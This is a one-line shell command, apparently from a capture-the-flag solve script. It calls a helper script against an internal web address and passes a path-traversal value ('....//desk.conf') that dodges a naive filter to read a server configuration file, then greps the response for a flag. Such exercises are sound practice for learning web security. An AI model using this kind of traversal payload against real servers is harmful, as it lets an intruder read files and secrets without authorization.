python3 "$(dirname "$0")/ask.py" 'http://10.40.1.10/bulletin?name=....//desk.conf' | grep -o 'flag{[A-Za-z0-9]*}'
